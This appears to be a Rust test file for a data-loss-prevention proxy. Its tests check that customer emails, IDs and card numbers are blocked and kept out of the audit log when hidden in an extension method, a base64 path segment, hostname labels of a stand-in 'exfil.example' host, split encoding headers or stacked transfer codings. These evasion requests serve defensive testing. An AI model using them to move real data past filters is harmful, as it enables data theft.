//! Every part of a request a client chooses is inspected, and none of it reaches the audit
//! log raw: the method, the host's labels, a base64 token as a path segment, and the body
//! header fields however they are split over lines (each found in review).

mod ops_support;
mod support;

use ops_support::{OpsProxy, json_lines};
use support::bodies::{base64url, brotli};
use support::{Proxy, Upstream, customer_export, exchange, parse_reply, request};

fn emails(n: usize) -> Vec<String> {
    customer_export(n)
        .lines()
        .map(|l| l.split(',').nth(2).unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn two_different_content_types_are_refused() {
    let upstream = Upstream::start().await;
    let proxy = Proxy::start("").await;
    let body = customer_export(3);
    let reply = request(
        proxy.addr,
        "POST",
        &upstream.url("/x"),
        &[
            ("Content-Type", "text/plain"),
            ("Content-Type", "application/zip"),
        ],
        body.as_bytes(),
    )
    .await;
    assert_eq!(reply.status, 400, "{}", reply.text());
    assert!(upstream.requests().is_empty());
    // The same value twice is one value.
    let reply = request(
        proxy.addr,
        "POST",
        &upstream.url("/y"),
        &[
            ("Content-Type", "text/plain"),
            ("Content-Type", "text/plain"),
        ],
        body.as_bytes(),
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(upstream.requests()[0].body, body.as_bytes());
}

#[tokio::test]
async fn content_encoding_split_over_two_lines_is_still_decoded() {
    let upstream = Upstream::start().await;
    let proxy = Proxy::start("").await;
    let body = brotli(customer_export(50).as_bytes());

    // Control: one line `identity, br` is decoded, and 50 emails are blocked.
    let reply = request(
        proxy.addr,
        "POST",
        &upstream.url("/one-line"),
        &[("Content-Encoding", "identity, br")],
        &body,
    )
    .await;
    assert_eq!(reply.status, 403, "control: {}", reply.text());

    // The same coding list as two field lines (RFC 9110 §5.3: the same field value).
    let reply = request(
        proxy.addr,
        "POST",
        &upstream.url("/two-lines"),
        &[("Content-Encoding", "identity"), ("Content-Encoding", "br")],
        &body,
    )
    .await;
    let seen = upstream.requests();
    assert!(
        seen.is_empty(),
        "the brotli customer export reached the upstream (status {}) with Content-Encoding {:?}",
        reply.status,
        seen.first().map(|r| r
            .headers
            .get_all("content-encoding")
            .iter()
            .collect::<Vec<_>>())
    );
    assert_eq!(reply.status, 403, "{}", reply.text());
}

#[tokio::test]
async fn customer_ids_in_an_extension_method_are_inspected() {
    let upstream = Upstream::start().await;
    let proxy = Proxy::start("").await;
    let ids: Vec<String> = (1..=12)
        .map(|i| format!("CUST-{:08}", 86753000 + i))
        .collect();
    // Control: the same twelve ids in the path are blocked.
    let reply = request(
        proxy.addr,
        "GET",
        &upstream.url(&format!("/{}", ids.join("."))),
        &[],
        b"",
    )
    .await;
    assert_eq!(reply.status, 403, "control: {}", reply.text());

    // A token (RFC 9110 method) may hold letters, digits, '-' and '.'.
    let method = ids.join(".");
    let reply = request(proxy.addr, &method, &upstream.url("/x"), &[], b"").await;
    let seen = upstream.requests();
    assert!(
        seen.is_empty(),
        "12 customer ids left as the method (status {}): upstream saw method {:?}",
        reply.status,
        seen.first().map(|r| r.method.clone())
    );
}

#[tokio::test]
async fn the_method_of_a_logged_request_is_not_written_raw_to_the_audit_log() {
    let upstream = Upstream::start().await;
    let mut proxy = OpsProxy::start("").await;
    let ids: Vec<String> = (1..=5)
        .map(|i| format!("CUST-{:08}", 86753000 + i))
        .collect();
    // Three emails in the body: a `log` verdict, so an audit event is written.
    let body = customer_export(3);
    let method = ids.join(".");
    let reply = request(
        proxy.addr,
        &method,
        &upstream.url("/x"),
        &[("Content-Type", "text/plain")],
        body.as_bytes(),
    )
    .await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    proxy.stop().await;
    let audit = std::fs::read_to_string(proxy.audit_path()).unwrap();
    let events = json_lines(&proxy.audit_path());
    assert_eq!(events.len(), 1, "{audit}");
    for id in &ids {
        assert!(
            !audit.contains(id.as_str()),
            "raw customer id {id} in the audit log: {audit}"
        );
    }
}

#[tokio::test]
async fn a_base64_customer_list_as_a_path_segment_is_blocked() {
    let upstream = Upstream::start().await;
    let proxy = Proxy::start("").await;
    let list = emails(12).join(",");
    let token = base64url(list.as_bytes());
    let mut passed = Vec::new();
    for prefix in ["/upload/", "/s/", "/share/", "/v1/export/", "/"] {
        let reply = request(
            proxy.addr,
            "GET",
            &upstream.url(&format!("{prefix}{token}")),
            &[],
            b"",
        )
        .await;
        if reply.status != 403 {
            passed.push((prefix, reply.status));
        }
    }
    assert!(
        passed.is_empty(),
        "12 base64 emails in the path were not blocked after {passed:?}; the upstream got {:?}",
        upstream
            .requests()
            .iter()
            .map(|r| r.target[..30].to_owned())
            .collect::<Vec<_>>()
    );
}

#[tokio::test]
async fn base64_identifiers_in_the_path_are_not_written_to_the_audit_log() {
    let upstream = Upstream::start().await;
    let mut proxy = OpsProxy::start("").await;
    let list = emails(12).join(",");
    let token = base64url(list.as_bytes());
    let reply = request(
        proxy.addr,
        "GET",
        // An 8-byte prefix: the base64 run (which starts at the first `/`) is aligned.
        &upstream.url(&format!("/upload/{token}")),
        &[],
        b"",
    )
    .await;
    assert_eq!(reply.status, 403, "{}", reply.text());
    proxy.stop().await;
    let events = json_lines(&proxy.audit_path());
    assert_eq!(events.len(), 1);
    let path = events[0]["path"].as_str().unwrap().to_owned();
    assert!(
        !path.contains(&token[..40]),
        "the audit path carries the base64 customer list (decodes to the raw emails): {path}"
    );
}

#[tokio::test]
async fn card_numbers_in_the_host_are_scanned_and_kept_out_of_the_audit_log() {
    let mut proxy = OpsProxy::start("").await;
    let cards = ["4111111111111111", "5500000000000004", "4012888888881881"];
    let host = format!("{}.exfil.example", cards.join("."));
    let query = emails(12).join("%20");
    let raw = format!(
        "GET http://{host}/p?q={query} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    );
    let reply = parse_reply(&exchange(proxy.addr, raw.as_bytes()).await);
    assert_eq!(reply.status, 403, "{}", reply.text());
    proxy.stop().await;
    let audit = std::fs::read_to_string(proxy.audit_path()).unwrap();
    let events = json_lines(&proxy.audit_path());
    assert_eq!(events.len(), 1, "{audit}");
    let rules: Vec<&str> = events[0]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rule"].as_str().unwrap())
        .collect();
    for card in cards {
        assert!(
            !audit.contains(card),
            "raw card number {card} in the audit event (rules found: {rules:?}): {}",
            events[0]["host"]
        );
    }
}

/// A body in a transfer coding other than chunked is refused with 501: it would have been
/// scanned still deflated and reached the upstream without the header that says so.
#[tokio::test]
async fn a_transfer_coding_other_than_chunked_is_refused() {
    let upstream = Upstream::start().await;
    let proxy = Proxy::start("").await;
    let deflated = support::bodies::deflate(customer_export(50).as_bytes());
    let mut chunked = format!("{:x}\r\n", deflated.len()).into_bytes();
    chunked.extend_from_slice(&deflated);
    chunked.extend_from_slice(b"\r\n0\r\n\r\n");
    let head = format!(
        "POST {} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: deflate, chunked\r\n\r\n",
        upstream.url("/te")
    );
    let mut raw = head.into_bytes();
    raw.extend_from_slice(&chunked);
    let reply = parse_reply(&exchange(proxy.addr, &raw).await);
    assert_eq!(reply.status, 501, "{}", reply.text());
    assert!(upstream.requests().is_empty());
    // Chunked twice: the inner framing would cut every value (7-byte inner chunks).
    let export = customer_export(50);
    let mut inner = Vec::new();
    for piece in export.as_bytes().chunks(7) {
        inner.extend_from_slice(format!("{:x}\r\n", piece.len()).as_bytes());
        inner.extend_from_slice(piece);
        inner.extend_from_slice(b"\r\n");
    }
    inner.extend_from_slice(b"0\r\n\r\n");
    let mut raw = format!(
        "POST {} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, chunked\r\n\r\n{:x}\r\n",
        upstream.url("/te2"),
        inner.len()
    )
    .into_bytes();
    raw.extend_from_slice(&inner);
    raw.extend_from_slice(b"\r\n0\r\n\r\n");
    let reply = parse_reply(&exchange(proxy.addr, &raw).await);
    assert_eq!(reply.status, 400, "{}", reply.text());
    assert!(upstream.requests().is_empty());
    // Chunked alone is forwarded as ever.
    let plain = b"hello";
    let raw = format!(
        "POST {} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        upstream.url("/te")
    );
    let reply = parse_reply(&exchange(proxy.addr, raw.as_bytes()).await);
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(upstream.requests()[0].body, plain);
}
